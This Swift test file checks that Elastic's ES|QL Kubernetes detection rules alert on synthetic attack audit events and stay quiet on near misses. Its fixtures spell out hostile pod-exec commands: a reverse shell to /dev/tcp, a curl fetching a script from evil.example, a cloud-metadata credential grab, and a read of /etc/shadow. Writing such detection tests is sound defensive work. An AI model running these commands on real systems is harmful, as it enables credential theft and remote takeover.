// Elastic's 11 ES|QL Kubernetes rules, loaded unchanged, through the pipeline: positives of our own making alert, near misses do not.
import AuditEvents
import Detection
import Foundation
import Kafka
import Pipeline
import TestSupport
import Testing


/// A raw audit event `seconds` after 09:00 on 2026-11-20, its fields changed at dotted paths
/// (`annotations.<key>` sets one annotation).
func esqlTestEvent(_ seconds: Int, _ changes: [String: JSONValue] = [:]) -> [UInt8] {
    let stamp = Timestamp.rfc3339(milliseconds: ElasticESQLRulesTests.start + Int64(seconds) * 1000)
    var event: JSONObject = [
        "kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "Metadata", "auditID": .string("id-\(seconds)-\(changes.count)"),
        "stage": "ResponseComplete", "requestURI": "/api/v1/namespaces/default/pods", "verb": "get",
        "user": ["username": "alice@example.com", "groups": ["system:authenticated"]],
        "sourceIPs": ["203.0.113.5"], "userAgent": "curl/8.5.0",
        "objectRef": ["resource": "pods", "namespace": "default", "apiVersion": "v1"],
        "responseStatus": ["code": 200],
        "requestReceivedTimestamp": .string(stamp), "stageTimestamp": .string(stamp),
        "annotations": ["authorization.k8s.io/decision": "allow"],
    ]
    for (path, value) in changes.sorted(by: { $0.key < $1.key }) {
        if path.hasPrefix("annotations.") {
            var annotations = event["annotations"]?.objectValue ?? [:]
            annotations[String(path.dropFirst("annotations.".count))] = value
            event["annotations"] = .object(annotations)
        } else {
            event.setValue(value, atDottedPath: path)
        }
    }
    var bytes: [UInt8] = []
    JSONValue.object(event).write(to: &bytes, sortedKeys: true)
    return bytes
}

/// Runs records through the pipeline on the in-memory driver (as `replay` does: two repartition
/// partitions, event times from the events) and returns the alert documents.
func pipelineAlerts(_ rule: CompiledRule, _ records: [[UInt8]]) throws -> [JSONObject] {
    var configuration = PipelineConfiguration(applicationID: "esql-test", kafka: KafkaConfiguration([:]), inputTopics: ["audit"], alertsTopic: "alerts")
    configuration.ingestTimeFromEvent = true
    configuration.idleTimeoutMilliseconds = .max / 4
    configuration.interimUpdateMilliseconds = 0
    configuration.internalPartitions = 2
    let driver = InMemoryDriver(configuration: configuration, rules: RuleSet([rule]))
    driver.join()
    var random = SyntheticAuditTraffic.Generator(seed: 1)
    for record in records { driver.pipe(record) }
    driver.runUntilQuiet(using: &random)
    driver.closeAllWindows()
    driver.runUntilQuiet(using: &random)
    return try driver.records(of: "alerts").map { try #require(try JSONValue.parse($0.record.value ?? []).objectValue) }
}

@Suite("Elastic's ES|QL rules in the pipeline", .enabled(if: SharedTestData.rulesAvailable, SharedTestData.rulesSkipReason))
struct ElasticESQLRulesTests {
    static let start: Int64 = 1_795_165_200_000  // 2026-11-20T09:00:00Z

    struct Case {
        var positive: [[UInt8]]
        var negative: [[UInt8]]
        /// A column the positive's alert carries, with its value.
        var column: (path: String, value: JSONValue)?
    }

    static func exec(_ command: String, at seconds: Int = 10) -> [UInt8] {
        let encoded = command.split(separator: " ").map { "command=" + String($0).addingPercentEncoding(withAllowedCharacters: .alphanumerics)! }
            .joined(separator: "&")
        return esqlTestEvent(seconds, ["verb": "create", "objectRef.resource": "pods", "objectRef.subresource": "exec", "objectRef.name": "web",
                                       "requestURI": .string("/api/v1/namespaces/default/pods/web/exec?\(encoded)&container=web&stdin=true&stdout=true&tty=true")])
    }

    static func rbac(_ verb: String, _ rules: JSONValue, in object: String) -> [UInt8] {
        esqlTestEvent(10, ["verb": .string(verb), "objectRef.resource": "clusterroles", "objectRef.name": "ops", "level": "RequestResponse",
                           "\(object).kind": "ClusterRole", "\(object).rules": rules])
    }

    static func enumeration(user: String, decisions: [String], uris: Int, resources: Int) -> [[UInt8]] {
        (0..<uris).map { index in
            let resource = ["pods", "secrets", "nodes", "configmaps", "services", "roles"][index % resources]
            return esqlTestEvent(10 + index, ["user.username": .string(user), "level": "Request", "objectRef.resource": .string(resource),
                                              "requestURI": .string("/api/v1/\(resource)?page=\(index)"),
                                              "annotations.authorization.k8s.io/decision": .string(decisions[index % decisions.count]),
                                              "responseStatus.code": decisions[index % decisions.count] == "forbid" ? 403 : 200])
        }
    }

    static let cases: [String: Case] = {
        let arc = "system:serviceaccount:azure-arc:guard"
        func secret(_ seconds: Int, _ name: String, user: String = "mallory@example.com") -> [UInt8] {
            esqlTestEvent(seconds, ["objectRef.resource": "secrets", "objectRef.namespace": "prod", "objectRef.name": .string(name), "user.username": .string(user)])
        }
        func recon(_ seconds: Int, _ resource: String) -> [UInt8] {
            esqlTestEvent(seconds, ["verb": "list", "objectRef.resource": .string(resource), "user.username": "carol@example.com"])
        }
        return [
            "credential_access_azure_arc_proxy_secret_configmap_access.toml": Case(
                positive: [esqlTestEvent(10, ["user.username": .string(arc), "objectRef.resource": "secrets", "objectRef.namespace": "payments",
                                              "objectRef.name": "db", "impersonatedUser.username": "alice@example.com"])],
                negative: [esqlTestEvent(10, ["user.username": .string(arc), "objectRef.resource": "secrets", "objectRef.namespace": "azure-arc",
                                              "objectRef.name": "db", "impersonatedUser.username": "alice@example.com"])],
                column: ("Esql.event_count", 1)),
            "credential_access_kubernetes_multiple_secret_retrieval_burst.toml": Case(
                positive: [secret(10, "a"), secret(70, "b"), secret(130, "c")],
                negative: [secret(10, "a"), secret(70, "b"), secret(130, "a")],
                column: ("Esql.unique_credentials", 3)),
            "credential_access_kubernetes_pod_exec_cloud_instance_metadata.toml": Case(
                positive: [exec("curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/")],
                negative: [exec("curl -s http://10.0.0.7/latest")],
                column: ("Esql.cloud_target", "AWS_IMDS")),
            "credential_access_kubernetes_pod_exec_sensitive_file_access.toml": Case(
                positive: [exec("cat /etc/shadow")],
                negative: [exec("cat /etc/hostname")],
                column: ("Esql.access_type", "HOST_CREDENTIALS")),
            "execution_kubernetes_pod_exec_curl_wget_https.toml": Case(
                positive: [exec("sh -c curl -fsSL https://evil.example/x.sh")],
                negative: [exec("sh -c curl -fsSL https://kubernetes.default.svc/healthz")],
                column: ("Esql.executed_command", "sh -c curl -fsSL https://evil.example/x.sh")),
            "execution_kubernetes_pod_exec_potential_reverse_shell.toml": Case(
                positive: [exec("bash -c bash -i >& /dev/tcp/198.51.100.9/4444 0>&1")],
                negative: [exec("bash -c echo > /dev/tcp/localhost/8080")],
                column: ("Esql.executed_command", "bash -c bash -i >  /dev/tcp/198.51.100.9/4444 0> 1")),
            "persistence_sensitive_role_creation_or_modification.toml": Case(
                positive: [rbac("create", [["verbs": ["escalate"], "resources": ["clusterroles"]]], in: "requestObject")],
                negative: [rbac("create", [["verbs": ["get"], "resources": ["pods"]]], in: "requestObject")],
                column: nil),
            "privilege_escalation_role_patch_wildcard_verbs_resources_response.toml": Case(
                positive: [rbac("patch", [["verbs": ["*"], "resources": ["*"]]], in: "responseObject")],
                negative: [rbac("patch", [["verbs": ["*"], "resources": ["pods"]]], in: "responseObject")],
                column: nil),
            "discovery_endpoint_permission_enumeration_by_anonymous_user.toml": Case(
                positive: enumeration(user: "system:anonymous", decisions: ["allow", "forbid"], uris: 8, resources: 5),
                negative: enumeration(user: "system:anonymous", decisions: ["allow", "forbid"], uris: 5, resources: 5),
                column: ("Esql.authz_forbid_count", 4)),
            "discovery_endpoint_permission_enumeration_by_user_and_srcip.toml": Case(
                positive: enumeration(user: "bob@example.com", decisions: ["allow", "forbid"], uris: 8, resources: 5),
                negative: enumeration(user: "bob@example.com", decisions: ["allow"], uris: 8, resources: 5),
                column: ("Esql.document_count", 8)),
            "discovery_kubernetes_multi_resource_setup_recon.toml": Case(
                positive: [recon(0, "namespaces"), recon(20, "nodes"), recon(40, "pods")],
                negative: [recon(0, "namespaces"), recon(20, "nodes"), recon(70, "pods")],
                column: ("Esql.unique_resources", 3)),
        ]
    }()

    @Test func everyESQLRuleLoadsAndHasACase() throws {
        let files = try FileManager.default.contentsOfDirectory(atPath: SharedTestData.rules.path).filter { $0.hasSuffix(".toml") }
        var esql: [String] = []
        for file in files {
            let rule = try CompiledRule.load(file: SharedTestData.rules.appendingPathComponent(file).path)
            if rule.rule.type == .esql { esql.append(file) }
        }
        #expect(files.count == 45, "every Elastic Kubernetes rule loads")
        #expect(esql.count == 11)
        #expect(Set(esql) == Set(Self.cases.keys))
    }

    @Test(arguments: Self.cases.keys.sorted())
    func positivesAlertAndNearMissesDoNot(file: String) throws {
        let rule = try CompiledRule.load(file: SharedTestData.rules.appendingPathComponent(file).path)
        let testCase = try #require(Self.cases[file])
        let alerts = try pipelineAlerts(rule, testCase.positive)
        #expect(alerts.count == 1, "\(file): \(alerts.count) alerts")
        if let alert = alerts.first {
            #expect(alert[path: "kibana.alert.rule.rule_id"]?.stringValue == rule.id)
            #expect(alert[path: "kibana.alert.rule.type"] == "esql" && alert[path: "kibana.alert.rule.rule_type_id"] == "siem.esqlRule")
            if let column = testCase.column {
                #expect(alert[path: column.path] == column.value, "\(file): \(column.path) is \(String(describing: alert[path: column.path]))")
            }
            if rule.esql?.isAggregating == false {
                #expect(alert[path: "kubernetes.audit.verb"] != nil, "a row without STATS alerts with its source event")
            }
        }
        #expect(try pipelineAlerts(rule, testCase.negative).isEmpty, "\(file): the near miss alerts")
    }
}
